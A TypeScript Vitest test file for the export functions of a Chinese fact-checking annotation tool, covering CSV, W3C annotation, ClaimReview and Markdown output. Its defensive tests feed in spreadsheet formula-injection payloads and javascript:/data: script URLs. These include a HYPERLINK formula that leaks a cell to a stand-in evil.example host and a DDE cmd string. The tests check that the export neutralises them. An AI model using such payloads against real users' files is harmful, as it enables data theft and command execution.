import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProjectStore } from '../project/store';
import { tempDir } from '../project/testing/fixtures';
import { csvCell } from '../../shared/export/csv';
import { exportProject } from './index';
import { SEED_CLAIMS, SEED_URL, seedProject } from './testing/seed-project';

let tmp: ReturnType<typeof tempDir>;
let store: ProjectStore;

beforeAll(async () => {
  tmp = tempDir();
  store = await seedProject(tmp.file('腾讯.pizhu'));
});
afterAll(() => {
  store.close();
  tmp.remove();
});

const text = async (format: 'csv' | 'md' | 'w3c' | 'claimreview' | 'html', extra = {}) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode((await exportProject(store, { format, ...extra })).bytes);

/** RFC 4180: fields split by commas, quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted && c === '"' && s[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && s[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe('the CSV export', () => {
  it('opens with a BOM and reads back as one row per claim, headers and values in Chinese, with the article and local times', async () => {
    const tz = process.env.TZ;
    process.env.TZ = 'Asia/Shanghai';
    try {
      const csv = await text('csv');
      expect(csv.charCodeAt(0)).toBe(0xfeff);
      const [head, ...rows] = parseCsv(csv.slice(1));
      expect(head).toEqual(['编号', '文章', '论断原文', '标签', '证据强度', '核查结论', '核查状态', '批注', '证据链接', '核查人', '创建时间', '修改时间']);
      expect(rows).toHaveLength(SEED_CLAIMS.length);
      const byQuote = new Map(rows.map((r) => [r[2], r]));
      const row = byQuote.get('总参数量 389B,激活参数量 52B')!;
      expect(row.slice(0, 10)).toEqual(['2', '腾讯的AI困局', '总参数量 389B,激活参数量 52B', '数据', '4 确凿', '属实', '已核查', '与技术报告一致。', 'https://arxiv.org/abs/2411.02265', '编辑张']);
      expect(row[10]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} \+08:00$/);
      const claim = store.listClaims(store.listArticles()[0]!.id).find((c) => c.anchor.exact === '总参数量 389B,激活参数量 52B')!;
      expect(Date.parse(row[10]!.replace(' ', 'T').replace(' ', ''))).toBe(Math.floor(Date.parse(claim.createdAt) / 1000) * 1000);
      expect(byQuote.get('仅排在了第 11 位,月访问量不到 200 万')![7]).toBe('榜单口径 "Web 端",不含 App。');
    } finally {
      if (tz === undefined) delete process.env.TZ;
      else process.env.TZ = tz;
    }
  });

  it('writes English headers and labels when asked', async () => {
    const [head, ...rows] = parseCsv((await text('csv', { lang: 'en' })).slice(1));
    expect(head!.slice(0, 3)).toEqual(['No.', 'Article', 'Claim']);
    expect(rows.map((r) => r[5])).toContain('mostly true');
    expect(rows.map((r) => r[4])).toContain('3 strong');
  });

  it('neutralises what a spreadsheet would run as a formula, in every column', async () => {
    const path = tmp.file('公式.pizhu');
    const formulas = await seedProject(path, [{ exact: '总参数量 389B', tag: '数据', verdict: 'false', strength: 1, note: '=HYPERLINK("https://evil.example/?leak="&A1,"点我")', evidenceUrl: '@SUM(1+1)' }]);
    const articleId = formulas.listArticles()[0]!.id;
    const [claim] = formulas.listClaims(articleId);
    const tag = formulas.addTag({ name: '+cmd|\' /C calc\'!A0', color: '#888888' });
    formulas.updateClaim(claim!.id, { tagIds: [tag.id] });
    formulas.renameArticle(articleId, '-2+3 腾讯');
    formulas.close();
    const evil = ProjectStore.open(path, { author: { id: '0c7a6f0e-2d0b-4a53-9f11-6a1c2f0d9e21', name: '\t=1+1' }, lang: 'en' });
    try {
      evil.updateClaim(claim!.id, { status: 'needs-review' });
      const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode((await exportProject(evil, { format: 'csv' })).bytes);
      const [, row] = parseCsv(csv.slice(1));
      expect(row![7]).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"点我")`);
      expect(row![3]).toBe(`'+cmd|' /C calc'!A0`);
      expect(row![8]).toBe(`'@SUM(1+1)`);
      expect(row![1]).toBe(`'-2+3 腾讯`);
      expect(row![9]).toBe(`编辑张、\t=1+1`);
      for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      evil.close();
    }
  });

  it('prefixes an apostrophe to each character OWASP lists, and to nothing else', () => {
    expect(['=1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(csvCell)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\t=1", '"\'\r=1"']);
    expect(['1-1', 'a=b', '总参数量 389B', ''].map(csvCell)).toEqual(['1-1', 'a=b', '总参数量 389B', '']);
  });
});

describe('the W3C Web Annotation export', () => {
  it('is an AnnotationCollection whose annotations carry quote and position selectors over the revision, tags and notes', async () => {
    const json = JSON.parse(await text('w3c'));
    expect(json.type).toBe('AnnotationCollection');
    expect(json['@context'][0]).toBe('http://www.w3.org/ns/anno.jsonld');
    const first = json.first.items[1];
    expect(first.target.source['pizhu:sourceUrl']).toBe(SEED_URL);
    expect(first.target.selector.map((s: { type: string }) => s.type)).toEqual(['TextQuoteSelector', 'TextPositionSelector']);
    expect(first.body).toContainEqual({ type: 'TextualBody', purpose: 'tagging', value: '数据' });
    expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'commenting', value: '与技术报告一致。' }));
    expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'assessing', 'pizhu:verdict': 'true' }));
    expect(first.body).toContainEqual(expect.objectContaining({ purpose: 'assessing', 'pizhu:strength': 4 }));
    expect(first).toMatchObject({ 'pizhu:status': 'checked', creator: { type: 'Person', name: '编辑张' } });
  });
});

describe('the ClaimReview export', () => {
  it('reviews every claim with a verdict except opinions, with the required and recommended properties', async () => {
    const reviews = JSON.parse(await text('claimreview', { organization: '核查实验室', reviewUrl: 'https://factcheck.example.org/tencent' }));
    expect(reviews.map((r: { claimReviewed: string }) => r.claimReviewed)).toEqual(SEED_CLAIMS.filter((c) => c.verdict && c.verdict !== 'opinion').map((c) => c.exact));
    for (const r of reviews) {
      expect(r).toMatchObject({ '@context': 'https://schema.org', '@type': 'ClaimReview', author: { '@type': 'Organization', name: '核查实验室' } });
      expect(r.url).toMatch(/^https:\/\/factcheck\.example\.org\/tencent#claim-\d+$/);
      expect(r.datePublished).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(r.reviewRating).toMatchObject({ '@type': 'Rating', bestRating: 5, worstRating: 1 });
      expect(r.reviewRating.alternateName).toBeTruthy();
      expect(r.itemReviewed).toMatchObject({ '@type': 'Claim', appearance: { url: SEED_URL }, author: { name: '小编' }, datePublished: '2024-11-20' });
    }
    const rating = (quote: string) => reviews.find((r: { claimReviewed: string }) => r.claimReviewed === quote).reviewRating;
    expect(rating('总参数量 389B,激活参数量 52B')).toMatchObject({ ratingValue: 5, alternateName: '属实' });
    expect(rating('业界参数规模最大、效果最好')).toMatchObject({ ratingValue: 2, alternateName: '有误导' });
  });
});

describe('the Markdown export', () => {
  it('lists every claim as a numbered quote with its verdict and evidence link', async () => {
    const md = await text('md');
    expect(md).toContain('### [2]\n\n> 总参数量 389B,激活参数量 52B');
    expect(md).toContain('- 核查结论: 属实');
    expect(md).toContain('](<https://arxiv.org/abs/2411.02265>)');
  });

  it('makes links only of http(s) and mailto addresses; a javascript: URL stays text', async () => {
    const path = tmp.file('链接.pizhu');
    const links = await seedProject(path, [{ exact: '总参数量 389B', tag: '数据', verdict: 'true', strength: 4, note: '', evidenceUrl: 'javascript:alert(document.cookie)' }]);
    try {
      const [claim] = links.listClaims(links.listArticles()[0]!.id);
      links.addEvidence(claim!.id, { title: '写信问作者', url: 'mailto:author@example.com' });
      links.addEvidence(claim!.id, { title: '图', url: 'data:text/html,<script>alert(1)</script>' });
      const md = new TextDecoder().decode((await exportProject(links, { format: 'md' })).bytes);
      expect(md).not.toMatch(/\]\(<?(javascript|data):/i);
      expect(md).toContain('- 证据: 来源 (javascript:alert(document.cookie))');
      expect(md).toContain('- 证据: [写信问作者](<mailto:author@example.com>)');
      expect(md).toContain('\\<script\\>');
    } finally {
      links.close();
    }
  });
});
